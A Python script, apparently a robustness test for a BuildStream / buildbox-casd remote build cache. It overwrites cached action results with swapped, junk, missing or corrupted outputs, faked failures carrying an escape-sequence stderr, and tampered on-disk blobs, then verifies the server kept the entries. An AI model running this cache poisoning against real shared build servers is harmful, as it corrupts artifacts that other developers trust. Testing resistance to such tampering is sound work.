"""Poisons the action cache of a server, as any client with write access can: replaces one output of
each action in it. Then reads the entries back, and fails if the server did not accept them.

    poison.py ADDRESS STORE OUTPUT HOW

ADDRESS is the server's. STORE is the folder of its blobs, used only to find the digests of actions,
which an attacker with the same meshes can compute. OUTPUT is the path of the output. HOW:

    swap     another output of the same action
    junk     a blob of a few bytes
    missing  a digest without a blob
    fail     the command failed
    empty    no outputs at all
    lie      the output's own blob has other bytes; written into STORE, since the server would reject it
"""

import hashlib
import os
import pathlib
import sys

import grpc
from buildstream._protos.build.bazel.remote.execution.v2 import remote_execution_pb2 as api
from buildstream._protos.build.bazel.remote.execution.v2 import remote_execution_pb2_grpc as services


def put(store, data, digest=None):
    """Uploads a blob, also under a wrong digest; returns its digest and whether the server took it."""
    own = api.Digest(hash=hashlib.sha256(data).hexdigest(), size_bytes=len(data))
    request = api.BatchUpdateBlobsRequest()
    request.requests.add(digest=digest or own, data=data)
    return own, store.BatchUpdateBlobs(request).responses[0].status.code == 0


def results(cache, folder):
    """The actions with results: small blobs of the store that are in the action cache."""
    for path in folder.glob("*/*"):
        if path.stat().st_size > 1000:
            continue
        digest = api.Digest(hash=path.parent.name + path.name, size_bytes=path.stat().st_size)
        try:
            yield digest, cache.GetActionResult(api.GetActionResultRequest(action_digest=digest))
        except grpc.RpcError as error:
            if error.code() != grpc.StatusCode.NOT_FOUND:
                raise


def main(address, folder, output, how):
    folder = pathlib.Path(folder)
    channel = grpc.insecure_channel(address)
    cache, store = services.ActionCacheStub(channel), services.ContentAddressableStorageStub(channel)
    poisoned = 0
    for action, result in list(results(cache, folder)):
        files = {file.path: file for file in result.output_files}
        if output not in files:
            continue
        file = files[output]
        if how == "swap":
            other = next(f for path, f in sorted(files.items()) if path != output and path.endswith(".hullmap"))
            file.digest.CopyFrom(other.digest)
        elif how == "junk":
            file.digest.CopyFrom(put(store, b"no pack")[0])
        elif how == "missing":
            file.digest.CopyFrom(api.Digest(hash="0" * 64, size_bytes=100))
        elif how == "fail":
            result.exit_code, result.stderr_raw = 3, b"\x1b[2J words of the attacker"
        elif how == "empty":
            del result.output_files[:]
        elif how == "lie":
            # Another blob's digest, which the server does not have.
            if put(store, b"x", api.Digest(hash=hashlib.sha256(b"y").hexdigest(), size_bytes=1))[1]:
                sys.exit("error: the server accepted a blob under a wrong digest")
            size = file.digest.size_bytes
            path = folder / file.digest.hash[:2] / file.digest.hash[2:]
            os.chmod(path, 0o644)
            path.write_bytes(b"x" * size)
        request = api.UpdateActionResultRequest(action_digest=action, action_result=result)
        cache.UpdateActionResult(request)
        if how != "missing":  # buildbox-casd drops a result whose blobs are missing.
            found = cache.GetActionResult(api.GetActionResultRequest(action_digest=action))
            assert found == result, "the server did not keep the entry"
        poisoned += 1
    print("poisoned:", how, poisoned)
    sys.exit(poisoned != 1)


if __name__ == "__main__":
    main(*sys.argv[1:])
